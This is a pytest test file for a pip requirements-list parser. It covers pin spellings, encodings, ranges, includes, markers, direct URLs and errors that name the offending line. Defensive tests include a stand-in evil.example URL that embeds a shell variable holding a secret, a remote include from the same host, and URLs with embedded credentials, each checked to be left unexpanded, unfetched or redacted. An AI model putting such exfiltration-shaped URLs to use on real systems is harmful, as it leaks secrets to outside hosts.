"""A requirements file says what pip would read in it: what it pins is exact, and the rest has its reason."""

from __future__ import annotations

import codecs
from pathlib import Path

import pytest

from dbmirror.package_lists.model import ListUnreadable
from tests.package_lists.conftest import Read, pins, reasons

SHA = "a" * 64
COMMIT = "b" * 40


def test_pins_of_every_spelling_are_exact(read: Read) -> None:
    found = read(
        "# comment\nFlask_Login==0.6.3  # why\nrequests[socks] == 2.31.0 ; python_version >= '3.8' \\\n"
        f"    --hash=sha256:{SHA} \\\n    --hash=sha256:{'c' * 64}\ntorch===2.3.1+cpu\nzope.interface==6.4,>=6\n"
    )
    assert pins(found) == {"flask-login": "0.6.3", "requests": "2.31.0", "torch": "2.3.1+cpu", "zope-interface": "6.4"}
    assert found.problems == ()


@pytest.mark.parametrize(
    "encoded",
    [
        codecs.BOM_UTF8 + "café==1.0".encode().replace("é".encode(), b"e"),
        codecs.BOM_UTF16_LE + "cafe==1.0\r\n".encode("utf-16-le"),
        codecs.BOM_UTF16_BE + "cafe==1.0\n".encode("utf-16-be"),
        "cafe==1.0\r\n".encode("utf-16-le"),
        codecs.BOM_UTF32_LE + "cafe==1.0\n".encode("utf-32-le"),
        "# -*- coding: latin-1 -*-\n# é\ncafe==1.0\n".encode("latin-1"),
    ],
)
def test_every_encoding_that_pip_reads_is_read(read: Read, encoded: bytes) -> None:
    assert pins(read(encoded)) == {"cafe": "1.0"}


def test_ranges_and_bare_names_are_not_known_and_end_nothing(read: Read) -> None:
    found = read("pandas>=2,<3\nnumpy\nscipy==1.*\nsix~=1.16\nyarl==1.9.4\n")
    assert pins(found) == {"yarl": "1.9.4"}
    assert {each.name: each.stated for each in found.problems} == {
        "pandas": "<3,>=2",
        "numpy": "any version",
        "scipy": "==1.*",
        "six": "~=1.16",
    }
    assert reasons(found)["pandas"] == "<3,>=2 is a range: the list does not say which version there is"
    assert [each.path for each in found.problems if each.name == "numpy"] == ["requirements.txt:2"]


def test_what_is_included_counts_and_a_constraint_pins_what_is_asked_for(read: Read) -> None:
    found = read(
        "-r base.txt\n-c limits.txt\npandas>=2\n", base="a==1\n--constraint limits.txt\n", limits="pandas==2.1\nb==9\n"
    )
    assert pins(found) == {"a": "1", "pandas": "2.1"}


def test_markers_choose_by_the_python_of_the_cluster(read: Read) -> None:
    text = "a==1; python_version < '3.11'\na==2; python_version >= '3.11'\nb==1; sys_platform == 'win32'\n"
    assert pins(read(text)) == {"a": "2"}
    assert pins(read(text, python="3.10.12")) == {"a": "1"}
    unknown = read(text, python=None)
    assert pins(unknown) == {}
    assert "--runtime says it" in reasons(unknown)["a"]
    assert "b" not in reasons(unknown), "no cluster runs Windows"


def test_addresses_are_exact_where_their_files_name_says_the_version(read: Read) -> None:
    found = read(
        f"forecast @ https://user:secret@files.example/forecast-1.4.0-py3-none-any.whl#sha256={SHA}\n"
        "https://files.example/calendar-0.3.0.tar.gz\n"
    )
    assert pins(found) == {"forecast": "1.4.0", "calendar": "0.3.0"}
    (calendar, forecast) = found.distributions
    assert forecast.direct_url is not None
    assert (forecast.direct_url.url, forecast.direct_url.sha256) == (
        "https://files.example/forecast-1.4.0-py3-none-any.whl",
        SHA,
    )
    assert calendar.direct_url is not None
    assert "secret" not in repr(found)


def test_repositories_and_folders_are_there_and_their_version_is_not_known(read: Read) -> None:
    found = read(
        f"-e git+https://token@git.example/team/metrics.git@{COMMIT}#egg=metrics\n"
        "tool @ git+ssh://git@git.example/tool.git@main\n./wheels/own\n-e .\n"
        "certifi @ file:///croot/certifi_1690232220950/work/certifi\n"
    )
    assert found.distributions == ()
    why = reasons(found)
    assert f"at the commit {COMMIT[:12]}" in why["metrics"]
    assert "at no certain commit" in why["tool"]
    assert "a folder or file of the machine that the list is of" in why["certifi"]
    assert [each.path for each in found.problems if each.name is None] == ["requirements.txt:3", "requirements.txt:4"]
    assert "token" not in repr(found)


def test_a_private_wheel_beside_the_list_is_not_looked_for_on_an_index(read: Read) -> None:
    (wheel,) = read("./wheels/own-1.0-py3-none-any.whl\n").distributions
    assert (wheel.name, wheel.version) == ("own", "1.0")
    assert wheel.direct_url is not None
    assert wheel.direct_url.url.startswith("file:")


def test_a_variable_of_the_shell_is_not_filled_in(read: Read, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SECRET", "hunter2")
    found = read("a @ https://evil.example/${SECRET}/a-1.0-py3-none-any.whl\n")
    assert "a variable of the shell" in reasons(found)["a"]
    assert "hunter2" not in repr(found)


def test_indexes_of_the_list_are_said_and_not_followed(read: Read) -> None:
    found = read("-i https://me:secret@index.example/simple\n--extra-index-url=https://b.example\na==1\n")
    assert found.notes == (
        "requirements.txt:1 says --index-url https://index.example/simple: packages come from your own indexes",
        "requirements.txt:2 says --extra-index-url https://b.example: packages come from your own indexes",
    )


@pytest.mark.parametrize(
    ("content", "says"),
    [
        ("a==1\nnot a requirement\n", "requirements.txt:2: 'not a requirement' is no requirement"),
        ("a==1\n--no-such-option x\n", "requirements.txt:2: '--no-such-option x' cannot be read as pip reads it"),
        ("a==1 --hash 'open\n", "requirements.txt:1"),
        ("a==1\n\na==2\n", "requirements.txt:3 asks for a 2, and"),
        ("a==1\n-c limits.txt\n", "a 1 is pinned, and <1,==1 does not allow it"),
        ("-r missing.txt\n", "missing.txt, which"),
        ("-r requirements.txt\n", "includes it in turn"),
        ("-r loop.txt\n", "includes it in turn"),
        ("-r https://evil.example/list.txt\n", "which is not fetched"),
        (b"a==1\xff\n", "cannot be read"),
        ("# -*- coding: klingon -*-\n", "it declares the encoding klingon"),
    ],
)
def test_what_pip_could_not_read_is_an_error_that_names_the_line(read: Read, content: str | bytes, says: str) -> None:
    with pytest.raises(ListUnreadable) as caught:
        read(content, limits="a<1\n", loop="-r loop.txt\n")
    assert says in str(caught.value)


def test_a_list_of_any_size_is_read_in_linear_time_or_refused(tmp_path: Path, read: Read) -> None:
    assert read("a" + " " * 200_000 + "==1\n").distributions[0].version == "1"
    with pytest.raises(ListUnreadable, match="larger than"):
        read("#" * (5 << 20))
